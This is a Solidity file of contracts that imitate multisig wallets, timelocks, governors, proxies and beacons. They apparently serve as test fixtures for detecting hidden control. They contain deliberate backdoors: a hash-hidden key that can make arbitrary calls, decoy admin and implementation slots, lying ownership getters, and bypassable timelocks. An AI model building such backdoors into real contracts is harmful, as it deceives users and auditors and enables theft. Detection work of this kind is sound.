// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ADMIN, BEACON, Forwarding, LOGIC, OwnedLogic} from "./Base.sol";

// Contracts that answer like strong controllers.

/// One account, known by its hash, may make the contract call anything.
abstract contract HiddenKey {
    bytes32 private immutable hash;
    constructor(address key) { hash = keccak256(abi.encode(key)); }
    function _isKey() internal view returns (bool) { return keccak256(abi.encode(msg.sender)) == hash; }
    function act(address to, bytes calldata data) external virtual { require(_isKey()); _act(to, data); }
    function _act(address to, bytes calldata data) internal { (bool ok,) = to.call(data); require(ok); }
}

contract FakeSafe is HiddenKey {
    address[] private owners;
    uint256 public nonce = 12;
    constructor(address key, address[] memory owners_) HiddenKey(key) { owners = owners_; }
    function VERSION() external pure returns (string memory) { return "1.4.1"; }
    function getOwners() external view returns (address[] memory) { return owners; }
    function getThreshold() external pure returns (uint256) { return 3; }
    function isOwner(address account) external view returns (bool) {
        for (uint256 i; i < owners.length; ++i) if (owners[i] == account) return true;
        return false;
    }
    function getModulesPaginated(address, uint256) external pure returns (address[] memory modules, address next) { return (new address[](0), address(1)); }
    function isModuleEnabled(address) external pure returns (bool) { return false; }
    function domainSeparator() external view returns (bytes32) { return keccak256(abi.encode(address(this))); }
}

contract FakeOldMultisig is HiddenKey {
    address[] public owners;
    mapping(address => bool) public isOwner;
    uint256 public required = 3;
    uint256 public transactionCount = 4;
    constructor(address key, address[] memory owners_) HiddenKey(key) { owners = owners_; for (uint256 i; i < owners_.length; ++i) isOwner[owners_[i]] = true; }
    function getOwners() external view returns (address[] memory) { return owners; }
    function MAX_OWNER_COUNT() external pure returns (uint256) { return 50; }
    function getConfirmationCount(uint256) external pure returns (uint256) { return 3; }
}

contract FakeTimelock is HiddenKey {
    event RoleGranted(bytes32 indexed role, address indexed account, address indexed sender);
    event MinDelayChange(uint256 oldDuration, uint256 newDuration);
    bytes32 public constant PROPOSER_ROLE = keccak256("PROPOSER_ROLE");
    bytes32 public constant EXECUTOR_ROLE = keccak256("EXECUTOR_ROLE");
    bytes32 public constant CANCELLER_ROLE = keccak256("CANCELLER_ROLE");
    bytes32 public constant DEFAULT_ADMIN_ROLE = 0;
    address private immutable council;
    constructor(address key, address council_) HiddenKey(key) {
        council = council_;
        emit RoleGranted(0, address(this), msg.sender);
        emit RoleGranted(PROPOSER_ROLE, council_, msg.sender);
        emit RoleGranted(CANCELLER_ROLE, council_, msg.sender);
        emit RoleGranted(EXECUTOR_ROLE, council_, msg.sender);
        emit MinDelayChange(0, 2 days);
    }
    function getMinDelay() external pure returns (uint256) { return 2 days; }
    function getRoleAdmin(bytes32) external pure returns (bytes32) { return 0; }
    function hasRole(bytes32 role, address account) external view returns (bool) {
        if (role == 0) return account == address(this);
        return account == council && (role == PROPOSER_ROLE || role == EXECUTOR_ROLE || role == CANCELLER_ROLE);
    }
    function supportsInterface(bytes4) external pure returns (bool) { return true; }
    function updateDelay(uint256) external pure { revert("TimelockUnauthorizedCaller"); }
    function schedule(address, uint256, bytes calldata, bytes32, bytes32, uint256) external view { require(msg.sender == council); }
}

/// Compound's timelock.
contract CompoundTimelock {
    uint256 public constant GRACE_PERIOD = 14 days;
    uint256 public constant MINIMUM_DELAY = 2 days;
    uint256 public constant MAXIMUM_DELAY = 30 days;
    event NewAdmin(address indexed newAdmin);
    event NewDelay(uint256 indexed newDelay);
    event QueueTransaction(bytes32 indexed txHash, address indexed target, uint256 value, string signature, bytes data, uint256 eta);
    address public admin;
    address public pendingAdmin;
    uint256 public delay;
    mapping(bytes32 => bool) public queuedTransactions;
    constructor(address admin_, uint256 delay_) { admin = admin_; delay = delay_; emit NewAdmin(admin_); emit NewDelay(delay_); }
    receive() external payable {}
    function setDelay(uint256 next) public virtual { require(msg.sender == address(this) && next >= MINIMUM_DELAY && next <= MAXIMUM_DELAY); delay = next; emit NewDelay(next); }
    function acceptAdmin() public virtual { require(msg.sender == pendingAdmin); admin = msg.sender; pendingAdmin = address(0); emit NewAdmin(msg.sender); }
    function setPendingAdmin(address next) public virtual { require(msg.sender == address(this)); pendingAdmin = next; }
    function hashOf(address target, uint256 value, string memory signature, bytes memory data, uint256 eta) public pure returns (bytes32) { return keccak256(abi.encode(target, value, signature, data, eta)); }
    function queueTransaction(address target, uint256 value, string memory signature, bytes memory data, uint256 eta) public virtual returns (bytes32 id) {
        require(msg.sender == admin && eta >= block.timestamp + delay);
        id = hashOf(target, value, signature, data, eta);
        queuedTransactions[id] = true;
        emit QueueTransaction(id, target, value, signature, data, eta);
    }
    function executeTransaction(address target, uint256 value, string memory signature, bytes memory data, uint256 eta) public payable virtual returns (bytes memory result) {
        require(_mayExecute(msg.sender));
        bytes32 id = hashOf(target, value, signature, data, eta);
        require(queuedTransactions[id] && block.timestamp >= eta && block.timestamp <= eta + GRACE_PERIOD);
        queuedTransactions[id] = false;
        bool ok;
        (ok, result) = target.call{value: value}(bytes(signature).length == 0 ? data : abi.encodePacked(bytes4(keccak256(bytes(signature))), data));
        require(ok);
    }
    function _mayExecute(address account) internal view virtual returns (bool) { return account == admin; }
}

contract BackDoorCompound is CompoundTimelock, HiddenKey {
    constructor(address key, address admin_) CompoundTimelock(admin_, 2 days) HiddenKey(key) {}
}

/// Any account may become pending administrator, and accepts.
contract OpenPendingCompound is CompoundTimelock {
    constructor(address admin_) CompoundTimelock(admin_, 2 days) {}
    function setPendingAdmin(address next) public override { require(msg.sender == address(this) || pendingAdmin == address(0)); pendingAdmin = next; }
}

/// The administrator may shorten the delay at once.
contract ImpatientCompound is CompoundTimelock {
    constructor(address admin_) CompoundTimelock(admin_, 2 days) {}
    function setDelay(uint256 next) public override { require(msg.sender == admin || msg.sender == address(this)); delay = next; }
}

/// The delay is so long that the time with it wraps around, and lies in the past.
contract WrappingCompound is CompoundTimelock {
    constructor(address admin_) CompoundTimelock(admin_, type(uint256).max) {}
    function queueTransaction(address target, uint256 value, string memory signature, bytes memory data, uint256 eta) public override returns (bytes32 id) {
        unchecked { require(msg.sender == admin && eta >= block.timestamp + delay); }
        id = hashOf(target, value, signature, data, eta);
        queuedTransactions[id] = true;
        emit QueueTransaction(id, target, value, signature, data, eta);
    }
}

/// What was executed stays queued.
contract RepeatingCompound is CompoundTimelock {
    constructor(address admin_) CompoundTimelock(admin_, 2 days) {}
    function executeTransaction(address target, uint256 value, string memory signature, bytes memory data, uint256 eta) public payable override returns (bytes memory result) {
        require(msg.sender == admin);
        require(queuedTransactions[hashOf(target, value, signature, data, eta)] && block.timestamp >= eta);
        bool ok;
        (ok, result) = target.call{value: value}(bytes(signature).length == 0 ? data : abi.encodePacked(bytes4(keccak256(bytes(signature))), data));
        require(ok);
    }
}

/// A transaction is queued from the start, without an event; anyone executes it.
contract QueuedCompound is CompoundTimelock {
    constructor(address admin_, address target, bytes memory data) CompoundTimelock(admin_, 2 days) {
        queuedTransactions[hashOf(target, 0, "", data, block.timestamp + 1)] = true;
        startedAt = block.timestamp;
    }
    uint256 public startedAt;
    function _mayExecute(address) internal pure override returns (bool) { return true; }
}

/// admin() names the Safe; the functions ask the hidden account.
contract LyingAdminCompound is HiddenKey {
    uint256 public constant GRACE_PERIOD = 14 days;
    uint256 public constant MINIMUM_DELAY = 2 days;
    uint256 public constant MAXIMUM_DELAY = 30 days;
    uint256 public constant delay = 2 days;
    address public immutable admin;
    address public constant pendingAdmin = address(0);
    constructor(address key, address admin_) HiddenKey(key) { admin = admin_; }
    function queuedTransactions(bytes32) external pure returns (bool) { return false; }
    function setDelay(uint256) external pure { revert(); }
}

contract FakeGovernor is HiddenKey {
    address public immutable token;
    address public immutable timelock;
    constructor(address key, address token_, address timelock_) HiddenKey(key) { token = token_; timelock = timelock_; }
    function name() external pure returns (string memory) { return "Governor"; }
    function version() external pure returns (string memory) { return "1"; }
    function COUNTING_MODE() external pure returns (string memory) { return "support=bravo&quorum=for,abstain"; }
    function votingDelay() external pure returns (uint256) { return 7200; }
    function votingPeriod() external pure returns (uint256) { return 50400; }
    function proposalThreshold() external pure returns (uint256) { return 1e24; }
    function quorum(uint256) external pure returns (uint256) { return 4e24; }
    function quorumVotes() external pure returns (uint256) { return 4e24; }
    function proposalCount() external pure returns (uint256) { return 31; }
    function CLOCK_MODE() external pure returns (string memory) { return "mode=blocknumber&from=default"; }
    function clock() external view returns (uint48) { return uint48(block.number); }
    function supportsInterface(bytes4) external pure returns (bool) { return true; }
}

/// Aave's executor, owned by the controller.
contract PayloadExecutor {
    address public owner;
    constructor(address owner_) { owner = owner_; }
    function executeTransaction(address target, uint256 value, string memory signature, bytes memory data, bool withDelegatecall) external payable returns (bytes memory result) {
        require(msg.sender == owner);
        bytes memory call_ = bytes(signature).length == 0 ? data : abi.encodePacked(bytes4(keccak256(bytes(signature))), data);
        bool ok;
        (ok, result) = withDelegatecall ? target.delegatecall(call_) : target.call{value: value}(call_);
        require(ok);
    }
}
contract FakePayloadsController is HiddenKey {
    struct ExecutorConfig { address executor; uint40 delay; }
    address public executor;
    address public immutable owner;
    address public immutable guardian;
    constructor(address key, address owner_) HiddenKey(key) { owner = owner_; guardian = owner_; executor = address(new PayloadExecutor(address(this))); }
    function MESSAGE_ORIGINATOR() external view returns (address) { return owner; }
    function CROSS_CHAIN_CONTROLLER() external view returns (address) { return owner; }
    function ORIGIN_CHAIN_ID() external pure returns (uint256) { return 1; }
    function EXPIRATION_DELAY() external pure returns (uint40) { return 35 days; }
    function GRACE_PERIOD() external pure returns (uint40) { return 7 days; }
    function MIN_EXECUTION_DELAY() external pure returns (uint40) { return 1 days; }
    function MAX_EXECUTION_DELAY() external pure returns (uint40) { return 10 days; }
    function getPayloadsCount() external pure returns (uint40) { return 3; }
    function getExecutorSettingsByAccessControl(uint8) external view returns (ExecutorConfig memory) { return ExecutorConfig(executor, 2 days); }
}

/// Zodiac's delay.
contract FakeDelay is HiddenKey {
    address public immutable owner;
    address public immutable avatar;
    constructor(address key, address owner_) HiddenKey(key) { owner = owner_; avatar = owner_; }
    function target() external view returns (address) { return avatar; }
    function txCooldown() external pure returns (uint256) { return 2 days; }
    function txExpiration() external pure returns (uint256) { return 7 days; }
    function txNonce() external pure returns (uint256) { return 5; }
    function queueNonce() external pure returns (uint256) { return 5; }
    function getModulesPaginated(address, uint256) external view returns (address[] memory modules, address next) { modules = new address[](1); modules[0] = avatar; next = address(1); }
}

/// owner() names the timelock, the hidden account upgrades. The owner may do it too.
contract LyingProxyAdmin is HiddenKey {
    address public owner;
    constructor(address key, address owner_) HiddenKey(key) { owner = owner_; }
    function UPGRADE_INTERFACE_VERSION() external pure returns (string memory) { return "5.0.0"; }
    function upgradeAndCall(address proxy, address next, bytes calldata data) external payable {
        require(msg.sender == owner || _isKey());
        (bool ok,) = proxy.call(abi.encodeWithSignature("upgradeToAndCall(address,bytes)", next, data));
        require(ok);
    }
    function upgrade(address proxy, address next) external {
        require(msg.sender == owner || _isKey());
        (bool ok,) = proxy.call(abi.encodeWithSignature("upgradeTo(address)", next));
        require(ok);
    }
}

contract LyingOwner is OwnedLogic, HiddenKey {
    address private shown;
    constructor(address key) HiddenKey(key) {}
    function show(address next) external { require(shown == address(0)); shown = next; }
    function owner() public view override returns (address) { return shown; }
    function _checkOwner() internal view override { require(_isKey() || msg.sender == shown); }
}

/// pendingOwner() is empty, and the hidden account may accept.
contract QuietPendingOwner is OwnedLogic, HiddenKey {
    constructor(address key) HiddenKey(key) {}
    function pendingOwner() external pure returns (address) { return address(0); }
    function acceptOwnership() external { require(_isKey()); _transferOwnership(msg.sender); }
}

/// The admin slot names a timelock; another slot decides.
contract DecoyAdminProxy is Forwarding {
    bytes32 private constant REAL = keccak256("proxy.settings");
    constructor(address logic, address shown, address real) {
        bytes32 slot = REAL;
        assembly { sstore(LOGIC, logic) sstore(ADMIN, shown) sstore(slot, real) }
    }
    function upgradeTo(address next) external {
        address real; address shown; bytes32 slot = REAL;
        assembly { real := sload(slot) shown := sload(ADMIN) }
        require(msg.sender == real || msg.sender == shown);
        assembly { sstore(LOGIC, next) }
    }
    fallback() external payable { address logic; assembly { logic := sload(LOGIC) } _delegate(logic); }
}

/// The implementation slot and implementation() show the logic; another slot is used.
contract DecoyLogicProxy is Forwarding, HiddenKey {
    address private real;
    constructor(address key, address logic) HiddenKey(key) { real = logic; assembly { sstore(LOGIC, logic) } }
    function implementation() external view returns (address logic) { assembly { logic := sload(LOGIC) } }
    function act(address to, bytes calldata) external override { require(_isKey()); real = to; }
    fallback() external payable { _delegate(real); }
}

/// The other slot is empty until it is used.
contract EmptyOverrideProxy is Forwarding {
    mapping(bytes4 => address) private overrides;
    bytes32 private immutable hash;
    constructor(address key, address logic) { hash = keccak256(abi.encode(key)); assembly { sstore(LOGIC, logic) } }
    fallback() external payable {
        if (keccak256(abi.encode(msg.sender)) == hash && msg.data.length == 24) {
            overrides[msg.sig] = address(bytes20(msg.data[4:24]));
            return;
        }
        address logic = overrides[msg.sig];
        if (logic == address(0)) assembly { logic := sload(LOGIC) }
        _delegate(logic);
    }
}

/// The beacon slot names an honest beacon; the proxy asks another one.
contract DecoyBeaconProxy is Forwarding {
    address private source;
    constructor(address shown, address real) { source = real; assembly { sstore(BEACON, shown) } }
    fallback() external payable {
        (, bytes memory answer) = source.staticcall(abi.encodeWithSignature("implementation()"));
        _delegate(abi.decode(answer, (address)));
    }
}
contract KeyBeacon is HiddenKey {
    address public implementation;
    constructor(address key, address logic) HiddenKey(key) { implementation = logic; }
    function act(address next, bytes calldata) external override { require(_isKey()); implementation = next; }
}
contract HonestBeacon {
    address public immutable implementation;
    constructor(address logic) { implementation = logic; }
}
/// Shows its owner and the logic to everyone, and other logic to the proxy.
contract TwoFacedBeacon is HiddenKey {
    address public owner;
    address private shown;
    address private real;
    constructor(address key, address owner_, address logic) HiddenKey(key) { owner = owner_; shown = logic; real = logic; }
    function implementation() external view returns (address) { return msg.sender.code.length > 0 ? real : shown; }
    function act(address next, bytes calldata) external override { require(_isKey()); real = next; }
    function upgradeTo(address next) external { require(msg.sender == owner); shown = next; real = next; }
}

/// implementation() answers a constant; no slot of a standard is set.
contract LyingImplementationProxy is Forwarding, HiddenKey {
    address private immutable shown;
    bytes32 private constant SLOT = keccak256("my.proxy");
    constructor(address key, address logic) HiddenKey(key) { shown = logic; _store(logic); }
    function _store(address logic) private { bytes32 slot = SLOT; assembly { sstore(slot, logic) } }
    function implementation() external view returns (address) { return shown; }
    function proxyType() external pure returns (uint256) { return 1; }
    function act(address to, bytes calldata) external override { require(_isKey()); _store(to); }
    fallback() external payable { address logic; bytes32 slot = SLOT; assembly { logic := sload(slot) } _delegate(logic); }
}

/// Compound's delegator: admin() and implementation() are variables.
contract LyingDelegator is Forwarding, HiddenKey {
    address public admin;
    address public pendingAdmin;
    address public implementation;
    constructor(address key, address admin_, address logic) HiddenKey(key) { admin = admin_; implementation = logic; }
    function _setImplementation(address next, bool, bytes memory) external { require(msg.sender == admin || _isKey()); implementation = next; }
    fallback() external payable { _delegate(implementation); }
}

/// authority() names an honest manager; another contract is asked.
interface ICanCall { function canCall(address caller, address target, bytes4 selector) external view returns (bool); }
contract LyingAuthority is OwnedLogic {
    address private immutable shown;
    ICanCall private immutable real;
    constructor(address shown_, ICanCall real_) { shown = shown_; real = real_; }
    function authority() external view returns (address) { return shown; }
    function _authorizeUpgrade(address) internal view override { require(real.canCall(msg.sender, address(this), msg.sig)); }
}
contract KeyAuthority is ICanCall, HiddenKey {
    constructor(address key) HiddenKey(key) {}
    bytes32 private hash;
    function learn(bytes32 next) external { require(hash == 0); hash = next; }
    function canCall(address caller, address, bytes4) external view returns (bool) { return keccak256(abi.encode(caller)) == hash; }
}

/// Looks like a Safe's proxy, and delegates for one account to what it names.
contract BackDoorSafeProxy is Forwarding {
    address private singleton;
    bytes32 private immutable hash;
    constructor(address singleton_, address key, bytes memory setup) {
        singleton = singleton_;
        hash = keccak256(abi.encode(key));
        (bool ok,) = singleton_.delegatecall(setup);
        require(ok);
    }
    fallback() external payable {
        if (keccak256(abi.encode(msg.sender)) == hash) {
            (address to, bytes memory data) = abi.decode(msg.data, (address, bytes));
            (bool ok,) = to.call(data);
            require(ok);
        } else if (msg.sig == 0xa619486e) {
            address s = singleton;
            assembly { mstore(0, s) return(0, 32) }
        } else _delegate(singleton);
    }
}
